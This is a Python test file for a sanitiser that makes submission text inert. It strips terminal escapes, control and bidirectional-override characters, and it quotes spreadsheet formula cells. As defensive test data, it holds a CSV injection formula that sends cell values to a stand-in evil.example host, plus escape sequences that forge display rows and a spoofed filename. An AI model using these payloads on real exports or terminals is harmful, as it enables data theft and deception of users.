"""Text from a submission, made harmless: bounded, no escapes or controls, inert in a CSV."""
from __future__ import annotations

import csv
import io

import pytest

from playground.grading import inert


@pytest.mark.parametrize("hostile, shown", [
    ("\x1b[2J\x1b[Hgood2.py      0/5", "good2.py 0/5"),  # clear the screen, home, a fake row
    ("a\x1b]8;;https://evil.example\x07link\x1b]8;;\x1b\\b", "alinkb"),  # an OSC 8 hyperlink
    ("x\x1b[38;2;255;0;0mred\x1b[0m", "xred"),
    ("bell\x07 back\x08space\x7f del", "bell backspace del"),
    ("\x9b31mC1 CSI\x9b0m", "C1 CSI"),
    ("one\r\ntwo\rthree\nfour", "one two three four"),
    ("admin\u202e\u2066fdp.exe\u2069", "adminfdp.exe"),  # a bidirectional override reorders a line
    ("line\u2028separator", "lineseparator"),
    ("lone \ud800 surrogate", "lone surrogate"),
    ("\x1b", ""),
])
def test_a_line_loses_escapes_and_controls(hostile, shown):
    assert inert.line(hostile) == shown


def test_letters_of_every_script_stay():
    for text in ("勾配が一致しません: 関数 シグモイド", "梯度不匹配：函数", "Градиент не совпадает", "café ŝi",
                 "👩\u200d🔬 ZWJ and \u200c ZWNJ stay"):
        assert inert.line(text) == text
        assert inert.lines(text) == text


def test_a_line_is_bounded_and_says_so():
    cut = inert.line("名" * 5_000_000, limit=300)
    assert len(cut) == 300 and cut.endswith("…")
    assert inert.line("x" * 300, limit=300) == "x" * 300


def test_printed_text_keeps_its_lines_and_its_tail():
    printed = "start\n" + "\x1b[31merror\x1b[0m\tat\r\n" * 2 + "end\r"
    assert inert.lines(printed) == "start\nerror    at\nerror    at\nend"
    tail = inert.lines("a" * 10_000 + "THE END", limit=100)
    assert len(tail) == 100 and tail.endswith("THE END") and tail.startswith("…")


@pytest.mark.parametrize("cell", ['=HYPERLINK("https://evil.example/steal?g="&B2&C2, "click")', "+1+1", "-2+3",
                                  "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"])
def test_a_cell_a_spreadsheet_would_run_is_quoted(cell):
    assert inert.csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Softplus", "name", "a=b", "ValueError: x = -1", "", "シグモイド"])
def test_other_cells_stay_as_they_are(cell):
    assert inert.csv_cell(cell) == cell


def test_numbers_stay_numbers_in_a_written_csv():
    out = io.StringIO()
    csv.writer(out).writerow([inert.csv_cell(v) for v in (-1.5, 0, "=1+1", "-x")])
    assert out.getvalue() == "-1.5,0,'=1+1,'-x\r\n"
